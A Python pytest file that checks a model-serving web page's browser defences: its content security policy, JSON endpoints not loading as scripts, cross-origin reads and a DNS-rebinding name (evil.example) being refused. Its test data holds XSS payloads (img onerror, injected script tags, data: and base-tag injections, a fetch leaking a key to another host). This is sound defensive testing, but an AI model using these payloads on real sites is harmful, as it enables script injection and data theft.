"""What a browser lets pages do: the served one runs under its policy, an injected script and other pages' do not."""

from __future__ import annotations

import http.server
import threading

import numpy as np
import pytest
from benchmarks.clients.chromium import chromium
from given import given_classifier
from serve.page.browser import Visit, needs_chromium, served

import lowtide as lt

pytest.importorskip("playwright.sync_api")
pytestmark = needs_chromium

NAME = "<img src=x onerror='window.injected=1'><script>window.injected=1</script>"


@pytest.fixture(scope="module")
def address(tmp_path_factory):
    folder = tmp_path_factory.mktemp("models")
    X = np.random.default_rng(0).standard_normal((60, 3))
    model = given_classifier(n_components=64, C=1.0, random_state=0).fit(X, np.where(X[:, 0] > 0, NAME, "other"))
    examples = {"examples": [{"name": NAME, "row": X[0].tolist()}]}
    lt.save(model, folder / "m.lowtide", metadata={"page": examples, "title": NAME})
    with served(folder / "m.lowtide") as address:
        yield address


@pytest.fixture(scope="module")
def browser():
    # The last step of an attack by names: the browser takes evil.example for this machine.
    with chromium("--host-resolver-rules=MAP evil.example 127.0.0.1") as browser:
        yield browser


def test_page_works_under_its_policy_and_texts_of_a_model_stay_texts(browser, address):
    visit = Visit(browser, address)
    assert visit.page.evaluate("window.injected") is None
    assert visit.complaints == []
    visit.close()


ELSEWHERE = "http://127.0.0.1:9/"
INJECTED = {
    "script": "script.textContent = 'window.injected = 1'; document.body.append(script)",
    "handler": """document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injected = 1">')""",
    "elsewhere": f"script.src = '{ELSEWHERE}x.js'; document.body.append(script)",
    "data": "script.src = 'data:text/javascript,window.injected=1'; document.body.append(script)",
    "frame": f"frame.src = '{ELSEWHERE}'; document.body.append(frame)",
    "base": f"""document.head.insertAdjacentHTML('afterbegin', '<base href="{ELSEWHERE}">')""",
    "sent": f"fetch('{ELSEWHERE}?key=1').catch(() => 0)",
}
TRY = """(async () => {
  const seen = new Promise((done) => addEventListener('securitypolicyviolation', (e) => done(e.violatedDirective)));
  const script = document.createElement('script'), frame = document.createElement('iframe');
  %s;
  return await Promise.race([seen, new Promise((done) => setTimeout(done, 20000))]);
})()"""


@pytest.mark.parametrize("name", INJECTED)
def test_injected_script_does_not_run(browser, address, name):
    visit = Visit(browser, address)
    blocked = visit.page.evaluate(TRY % INJECTED[name])
    assert blocked
    assert visit.page.evaluate("window.injected") is None
    visit.close()


def test_json_is_no_script(browser, address):
    """An answer whose text would be a script is none to the browser, since it says what it is."""
    visit = Visit(browser, address)
    loading = """new Promise(done => {
      const s = document.createElement('script');
      s.src = '/v1/models'; s.onload = () => done('ran'); s.onerror = () => done('refused');
      document.body.append(s)})"""
    assert visit.page.evaluate(loading) == "refused"
    visit.close()


class Elsewhere(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(b"<title>elsewhere</title>")

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def elsewhere():
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.mark.parametrize("mode", ["cors", "no-cors"])
def test_page_of_another_server_learns_nothing(browser, address, elsewhere, mode):
    page = browser.new_page()
    page.goto(elsewhere)
    asking = f"fetch('{address}/v1/models', {{mode: '{mode}'}}).then(r => r.text()).catch(() => 'refused')"
    assert page.evaluate(asking) in ("refused", "")
    page.close()


def test_name_that_was_made_to_point_here_learns_nothing(browser, address):
    """To the browser the page is one of the server: only the name tells."""
    port, page = address.rsplit(":", 1)[1], browser.new_page()
    refused = page.goto(f"http://evil.example:{port}/v1/models")
    assert refused.status == 421
    assert "fingerprint" not in page.content()
    assert page.goto(f"http://localhost:{port}/v1/models").status == 200
    assert "fingerprint" in page.content()
    page.close()
